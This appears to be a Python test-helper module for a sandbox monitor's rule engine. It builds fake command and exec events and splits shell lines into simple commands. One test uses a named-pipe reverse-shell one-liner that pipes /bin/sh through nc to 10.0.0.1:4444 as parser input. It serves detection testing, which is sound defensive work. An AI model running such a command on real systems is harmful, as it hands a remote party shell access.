"""Helpers for the rule tests: build events the way the sensors will, without the sensors.

``command_event`` splits a command line with shlex into simple commands (pipelines and lists
become several, redirects are pulled out of argv) — enough to feed the rule engine the shape
that ``rollcage.monitor.static`` emits, while that analyzer is being written.
"""

from __future__ import annotations

import shlex
from typing import Any

_SEPARATORS = {"|", "||", "&&", ";", "&", ";;", "|&", "(", ")"}
_REDIRECT_OPS = {">", ">>", "<", "<>", ">&", "<&", "&>", "&>>", ">|", "<<", "<<<"}


def simple_commands(text: str) -> list[dict[str, Any]]:
    """Split ``text`` into ``[{"name", "argv", "redirects", "source"}]`` (best effort)."""
    lexer = shlex.shlex(text, posix=True, punctuation_chars=";&|<>()")
    lexer.whitespace_split = True
    lexer.commenters = ""
    try:
        tokens = list(lexer)
    except ValueError:
        tokens = text.split()
    commands: list[dict[str, Any]] = []
    argv: list[str] = []
    redirects: list[str] = []

    def flush() -> None:
        if argv:
            commands.append({"name": argv[0], "argv": list(argv), "redirects": list(redirects), "source": "direct"})
        argv.clear()
        redirects.clear()

    i = 0
    while i < len(tokens):
        tok = tokens[i]
        if tok in _SEPARATORS:
            flush()
        elif tok in _REDIRECT_OPS:
            op = tok
            target = tokens[i + 1] if i + 1 < len(tokens) and tokens[i + 1] not in _SEPARATORS else ""
            # shlex separates an fd prefix ("2" ">&" "1"); take a single digit before the operator
            if len(argv) > 1 and len(argv[-1]) == 1 and argv[-1].isdigit():
                op = argv.pop() + op
            redirects.append(f"{op}{target}")
            i += 1
        else:
            argv.append(tok)
        i += 1
    flush()
    return commands


def command_event(text: str, *, sandbox_id: str = "sb-1", step: int = 3, **extra: Any) -> dict[str, Any]:
    """A ``command`` event for ``text`` as docs/events.md describes it."""
    return {
        "type": "command",
        "time": "2026-01-01T00:00:00.000000Z",
        "sandbox_id": sandbox_id,
        "run_id": "run-1",
        "episode_id": "ep-1",
        "step": step,
        "command": text,
        "commands": simple_commands(text),
        "urls": [],
        "paths": [],
        "parse_error": None,
        **extra,
    }


def exec_event(argv: list[str], *, exe: str | None = None, pid: int = 4242, **extra: Any) -> dict[str, Any]:
    """An ``exec`` event for ``argv``."""
    exe = exe or (argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}")
    return {
        "type": "exec",
        "time": "2026-01-01T00:00:00.000000Z",
        "sandbox_id": "sb-1",
        "run_id": "run-1",
        "episode_id": "ep-1",
        "step": 3,
        "pid": pid,
        "ppid": 1,
        "exe": exe,
        "exe_sha256": "0" * 64,
        "argv": argv,
        "cmdline": " ".join(argv),
        "name": exe.rsplit("/", 1)[-1],
        "cwd": "/work",
        "pcmdline": "bash",
        "pname": "bash",
        "uid": 1000,
        **extra,
    }


def event(type_: str, **fields: Any) -> dict[str, Any]:
    """Any other event type with the common fields filled in."""
    return {
        "type": type_,
        "time": "2026-01-01T00:00:00.000000Z",
        "sandbox_id": "sb-1",
        "run_id": "run-1",
        "episode_id": "ep-1",
        "step": 3,
        **fields,
    }


def test_simple_commands_split_pipelines_and_redirects() -> None:
    cmds = simple_commands("cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f; echo done")
    assert [c["name"] for c in cmds] == ["cat", "/bin/sh", "nc", "echo"]
    assert cmds[2]["argv"] == ["nc", "10.0.0.1", "4444"]
    assert cmds[2]["redirects"] == [">/tmp/f"]
    assert cmds[1]["redirects"] == ["2>&1"]


def test_simple_commands_keep_quoted_arguments() -> None:
    cmds = simple_commands("bash -c 'echo a | b' && ls")
    assert cmds[0]["argv"] == ["bash", "-c", "echo a | b"]
    assert cmds[1]["name"] == "ls"
